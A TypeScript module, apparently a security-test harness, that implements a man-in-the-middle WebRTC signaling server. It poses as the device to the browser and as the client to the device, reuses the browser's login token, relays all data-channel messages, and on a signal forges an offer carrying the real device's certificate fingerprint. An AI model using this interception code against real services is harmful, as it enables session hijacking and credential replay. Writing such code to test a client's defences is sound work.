/**
 * @module A malicious signaling service, as a process of its own: it answers the browser posing as the device, connects to the device
 * posing as the client, and passes on everything that is said. On SIGUSR2 it sends the browser a new offer that names the device's own
 * certificate. `man-in-the-middle.ts --upstream ws://…`
 */
import { once } from 'node:events';
import { parseArgs } from 'node:util';
import { PeerConnection, type DataChannel, type DescriptionType } from 'node-datachannel';
import { WebSocket, WebSocketServer } from 'ws';
import { OfferingPeer, type Message } from './offering-peer.ts';

const { values } = parseArgs({ options: { upstream: { type: 'string', default: '' } } });

const FINGERPRINT = /^a=fingerprint:.*$/gimu;

function describe(sdp: string, type: DescriptionType): Message {
  return { type: type === 'offer' ? 0 : 1, data: JSON.stringify({ type, sdp }), metadata: {} };
}

function candidateMessage(candidate: string, sdpMid: string): Message {
  return { type: 2, data: JSON.stringify({ candidate: candidate.replace(/^a=/u, ''), sdpMid }) };
}

/** Sends on a channel as soon as there is one that is open. */
class Pipe {
  #channel: DataChannel | undefined;
  readonly #waiting: string[] = [];

  open(channel: DataChannel): void {
    this.#channel = channel;
    for (const text of this.#waiting.splice(0)) channel.sendMessage(text);
  }

  send(text: string): void {
    if (this.#channel === undefined) this.#waiting.push(text);
    else if (this.#channel.isOpen()) this.#channel.sendMessage(text);
  }
}

/** One browser and the device that it believes to talk to. */
class Interception {
  readonly #browser: WebSocket;
  readonly #front = new PeerConnection('front', { iceServers: [], disableAutoNegotiation: true });
  #back: OfferingPeer | undefined;
  readonly #toBrowser = new Pipe();
  readonly #toDevice = new Pipe();
  #lies = false;

  constructor(browser: WebSocket) {
    this.#browser = browser;
    browser.on('message', (data: Buffer) => this.#handleBrowser(JSON.parse(data.toString('utf8'))));
    browser.on('close', () => this.#front.close());
    this.#front.onLocalDescription((sdp, type) => this.#tell(describe(this.#disguise(sdp), type)));
    this.#front.onLocalCandidate((candidate, mid) => this.#tell(candidateMessage(candidate, mid)));
    this.#front.onDataChannel((channel) => {
      channel.onMessage((data) => typeof data === 'string' && this.#toDevice.send(data));
      this.#toBrowser.open(channel);
    });
  }

  #tell(message: Message): void {
    if (this.#browser.readyState === WebSocket.OPEN) this.#browser.send(JSON.stringify(message));
  }

  #disguise(sdp: string): string {
    const real = this.#back?.peer.remoteDescription()?.sdp.match(FINGERPRINT)?.[0];
    return this.#lies && real !== undefined ? sdp.replace(FINGERPRINT, real) : sdp;
  }

  #handleBrowser(message: Message): void {
    const data = message.data === undefined ? {} : JSON.parse(message.data);
    switch (message.type) {
      case 20:
        void this.#connectToDevice(message);
        this.#tell({ type: 21 });
        break;
      case 3:
        this.#browser.send(JSON.stringify({ type: 4, iceServers: [] }));
        break;
      case 0:
        this.#front.setRemoteDescription(data.sdp, 'offer');
        this.#front.setLocalDescription('answer');
        break;
      case 1:
        this.#front.setRemoteDescription(data.sdp, 'answer');
        break;
      case 2:
        if (data.candidate !== '') this.#front.addRemoteCandidate(data.candidate, data.sdpMid ?? '0');
        break;
      default:
    }
  }

  /** Uses the token that the browser has just shown. */
  async #connectToDevice(login: Message): Promise<void> {
    const socket = new WebSocket(`${values.upstream}/signaling/v1`, 'json');
    await once(socket, 'open');
    const send = (message: Message): void => socket.send(JSON.stringify(message));
    const back = new OfferingPeer(send);
    this.#back = back;
    socket.on('message', (data: Buffer) => {
      const message: Message = JSON.parse(data.toString('utf8'));
      if (message.type === 21) send({ type: 3 });
      else if (message.type === 4) back.offer();
      else back.handleMessage(message);
    });
    this.#browser.on('close', () => {
      socket.close();
      back.peer.close();
    });
    send(login);
    const channel = back.peer.createDataChannel('coap');
    channel.onOpen(() => this.#toDevice.open(channel));
    channel.onMessage((data) => typeof data === 'string' && this.#toBrowser.send(data));
  }

  /** Offers again, naming the certificate of the real device. */
  offerWithRealFingerprint(): void {
    this.#lies = true;
    this.#front.setLocalDescription('offer');
  }
}

const interceptions: Interception[] = [];
const server = new WebSocketServer({ port: 0, host: '127.0.0.1' });
server.on('connection', (browser) => interceptions.push(new Interception(browser)));
await once(server, 'listening');
process.on('SIGUSR2', () => interceptions.at(-1)?.offerWithRealFingerprint());
const address = server.address();
console.log(
  `man-in-the-middle listening on ws://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`,
);
